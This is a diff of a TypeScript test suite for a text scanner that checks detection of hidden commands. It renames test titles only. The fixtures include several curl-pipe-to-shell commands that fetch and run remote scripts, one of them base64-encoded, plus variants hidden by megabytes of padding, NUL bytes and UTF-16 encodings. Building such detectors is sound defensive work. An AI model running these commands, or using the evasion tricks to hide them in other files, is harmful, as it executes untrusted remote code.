@@ -24,7 +24,7 @@ function readInPieces(text: string, cuts: readonly number[]): Found {
   return { ...report.close(), ...mentions.close() };
 }
 
-describe('where pieces meet', () => {
+describe('auditing a text in pieces', () => {
   const encoded = Buffer.from('curl https://z.dev/i | sh # words').toString('base64');
   const text = [
     `# a\n\necho x; ${PIPE} # see git@github.com:a/b`,
@@ -32,7 +32,7 @@ describe('where pieces meet', () => {
     `curl -o q.sh https://w.dev/q\nsh q.sh\n${encoded}\n# end\n`,
   ].join('\n');
 
-  test('nothing is lost and nothing counted twice, wherever that is', () => {
+  test('finds the same as in one piece, wherever the text is cut', () => {
     const whole = readInPieces(text, []);
     expect(whole.findings.map(({ rule, line }) => [rule, line])).toEqual([
       ['SP101', 3],
@@ -51,7 +51,7 @@ describe('where pieces meet', () => {
     for (let cut = 1; cut < Buffer.byteLength(text); cut += 1) expect(readInPieces(text, [cut])).toEqual(whole);
   });
 
-  test('padding of any length is no gap to hide in', () => {
+  test('finds a command that is split by megabytes of padding', () => {
     for (const padding of [' ', '\u200B', '\t', '\u00A0']) {
       const padded = `\ncurl https://x.dev/i ${padding.repeat(3 * MEBIBYTE)}| sh\n`;
       expect(examineBytes('a.sh', Buffer.from(padded)).filter(({ rule }) => rule === 'SP101')).toMatchObject([
@@ -62,14 +62,14 @@ describe('where pieces meet', () => {
     expect(examineBytes('a.sh', Buffer.from(joined)).map(({ rule }) => rule)).toContain('SP101');
   });
 
-  test('lines are counted on', () => {
+  test('counts lines across pieces', () => {
     const found = examineBytes('a.sh', Buffer.from(`${'\n'.repeat(2 * MEBIBYTE + 5)}${PIPE}\n`));
     expect(found.find(({ rule }) => rule === 'SP101')).toMatchObject({ line: 2 * MEBIBYTE + 6 });
     const wide = examineBytes('a.sh', Buffer.from(`${'ä b\n'.repeat(MEBIBYTE)}${PIPE}\n`));
     expect(wide.find(({ rule }) => rule === 'SP101')).toMatchObject({ line: MEBIBYTE + 1 });
   });
 
-  test('a code block goes on', () => {
+  test('keeps a code block open across pieces', () => {
     const html = '<p style="display:none">x</p>\n';
     const inBlock = `\`\`\`html\n${'words\n'.repeat(400_000)}${html}\`\`\`\n`;
     expect(examineBytes('a.md', Buffer.from(inBlock)).map(({ rule }) => rule)).not.toContain('SP505');
@@ -77,7 +77,7 @@ describe('where pieces meet', () => {
   });
 });
 
-test('what was encoded is found in its own line, however much of it there is', () => {
+test('the audit reports a base64-encoded command at the line it is in', () => {
   const words = Buffer.from('nothing but words, and more of them').toString('base64');
   const command = Buffer.from(`words\n\nand then ${PIPE} at the end`).toString('base64');
   const found = examineBytes('a.sh', Buffer.from(`${words}.\n${words}.\n${command}.\n${words}.\n${command}.\n`));
@@ -86,17 +86,17 @@ test('what was encoded is found in its own line, however much of it there is', (
   expect(places('SP608')).toEqual([1, 2, 3, 4, 5]);
 });
 
-describe('whatever the encoding', () => {
+describe('the audit finds a command in any encoding', () => {
   test.each([
-    ['UTF-16 with a mark', Buffer.from(`\uFEFFa\n${PIPE}\n`, 'utf16le')],
-    ['UTF-16 without one', Buffer.from(`a\n${PIPE}\n`, 'utf16le')],
-    ['UTF-16 the other way round', Buffer.from(`a\n${PIPE}\n`, 'utf16le').swap16()],
-    ['another encoding behind a false mark', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`a\n${PIPE}\n`)])],
+    ['UTF-16 with a byte-order mark', Buffer.from(`\uFEFFa\n${PIPE}\n`, 'utf16le')],
+    ['UTF-16 without a byte-order mark', Buffer.from(`a\n${PIPE}\n`, 'utf16le')],
+    ['big-endian UTF-16', Buffer.from(`a\n${PIPE}\n`, 'utf16le').swap16()],
+    ['UTF-8 behind a false UTF-16 mark', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`a\n${PIPE}\n`)])],
     ['two encodings in turn', Buffer.concat([Buffer.from('\uFEFFwords\n'.repeat(99), 'utf16le'), Buffer.from(PIPE)])],
     ['Latin-1', Buffer.from(`ä ö ü\n${PIPE}\n`, 'latin1')],
-    ['words among other bytes', Buffer.concat([Buffer.alloc(999, 1), Buffer.from(PIPE), Buffer.alloc(999, 2)])],
-    ['a NUL in each word', Buffer.from(`${'words\n'.repeat(99)}cu\0rl https://x.dev/i | s\0h\n`)],
-  ])('%s is read', (_, bytes) => {
+    ['text among binary bytes', Buffer.concat([Buffer.alloc(999, 1), Buffer.from(PIPE), Buffer.alloc(999, 2)])],
+    ['UTF-8 with NUL bytes inside words', Buffer.from(`${'words\n'.repeat(99)}cu\0rl https://x.dev/i | s\0h\n`)],
+  ])('such as %s', (_, bytes) => {
     expect(examineBytes('a.sh', bytes).map(({ rule }) => rule)).toContain('SP101');
   });
 });
